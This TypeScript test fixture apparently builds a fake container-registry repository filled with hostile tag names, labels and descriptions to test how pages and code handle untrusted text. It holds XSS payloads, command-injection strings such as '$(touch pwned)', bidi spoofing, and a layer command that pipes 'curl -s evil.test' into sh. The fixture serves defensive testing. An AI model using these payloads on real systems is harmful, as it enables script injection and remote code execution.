// What a listing can hold when nobody checks names: a restore makes any name without a slash.

import { actors } from './accounts'
import { DAY, HOUR } from './dates'
import type { Happening } from './deeds'
import { image, label } from './images'
import type { Random } from './prng'
import { published } from './routine'
import { type Chronicle, type Making, told } from './telling'
import { workshop } from './workshop'

/** Names that a registry client may push, and that still trip code over. */
const LEGAL = [
  '__proto__',
  'constructor',
  'toString',
  'null',
  '0',
  'v1.0',
  'V1.0',
  '_._',
  'a'.repeat(128),
  `release-${'0123456789'.repeat(12)}`,
] as const

/** Names that only a restore makes. */
export const ODD = [
  'bad name',
  ' leading and trailing ',
  '.hidden',
  '..',
  '...',
  '-rf',
  '--help',
  '<script>alert(document.domain)<!--',
  '"><img src=x onerror=alert(1)>',
  "'><svg onload=alert(1)>",
  '{{7*7}}${7*7}',
  '$(touch pwned)',
  '`touch pwned`',
  "'; touch pwned; '",
  '$HOME',
  '100%',
  '%2e%2e%2f',
  '%',
  'a?b=c&d#e',
  'back\\slash',
  'line\nbreak',
  'tab\there',
  '\u202Egnp.tsetal',
  'latest\u200B',
  '\u2066v1.0\u2069',
  'ｖ１．０',
  'caf\u00E9',
  'cafe\u0301',
  '日本語タグ',
  'עברית',
  '🚀-release',
  '👩‍👩‍👧‍👦',
] as const

const LABELS: Record<string, string> = {
  'org.opencontainers.image.title': '<img src=x onerror="alert(\'title\')">',
  'org.opencontainers.image.source': 'javascript:alert(document.cookie)',
  'org.opencontainers.image.url': 'https://user:pass@example.test/"onmouseover="alert(1)',
  'org.opencontainers.image.authors': '\u202E<gro.live@live>\u202C',
  'org.opencontainers.image.description': '改行\nタブ\t絵文字 🐳、引用符 "\' ` と $(id)',
  'com.example.long': 'とても長い値。'.repeat(120),
  'com.example.empty': '',
  'com.example.number': '1e999',
}

const DESCRIPTION = `# <script>alert('description')</script>
<img src=x onerror=alert(1)> [click me](javascript:alert(document.cookie)) ![](data:text/html,<script>alert(2)</script>)
\u202Ethis line runs backwards\u202C, this one "quotes" 'everything' \`$(id)\` & more; ${'longword'.repeat(30)}
最後の行は日本語です。🧨`

/** An image whose every text is hostile. */
function trap(chance: Random, at: number) {
  const layer = {
    digest: `sha256:${chance.hex(64)}`,
    size: 4096,
    command: 'RUN echo "<script>alert(1)</script>" && $(curl -s evil.test | sh) # \u202Eexe.cod',
    created: at,
    author: '<b onclick=alert(1)>author</b>',
    comment: '"><svg onload=alert(1)>',
  }
  return image(
    chance,
    [layer],
    Object.entries(LABELS).map(([key, value]) => label(chance, key, value)),
  )
}

/** `acme/odd-names`: everything that a repository can hold and a careless page would run. */
export function hostile({ now, chance }: Making): Chronicle {
  const shop = workshop(chance, { name: 'odd-names', copies: 'COPY odd /odd # buildkit', megabytes: 1 }, now)
  const plain = shop.build({ version: '1.0', at: now - 21 * DAY })
  const trapped = trap(chance, now - 20 * DAY)
  const by = actors.writer
  const restored = ODD.map((tag, i): Happening => {
    const at = now - 19 * DAY + i * 5 * HOUR
    return { does: 'restore', tag, image: i % 3 === 0 ? plain : trapped, at, by }
  })
  const story: Happening[] = [
    ...published(now - 20 * DAY, plain, LEGAL),
    { does: 'push', tag: 'trapped', image: trapped, at: now - 20 * DAY + 900, by: actors.writerLaptop },
    ...restored,
    // Odd names end, move and expire as others do.
    { does: 'delete', tag: '$(touch pwned)', at: now - 5 * DAY, by },
    { does: 'delete', tag: '日本語タグ', at: now - 4 * DAY, by },
    { does: 'restore', tag: '"><img src=x onerror=alert(1)>', image: plain, at: now - 3 * DAY, by },
    { does: 'expire', tag: '🚀-release', end: now + 6 * DAY, at: now - 3 * DAY + HOUR, by },
    { does: 'lock', tag: 'bad name', locked: true, at: now - 2 * DAY, by: actors.admin },
  ]
  return told({ namespace: 'acme', name: 'odd-names', description: DESCRIPTION }, now, now - 30 * DAY, story)
}
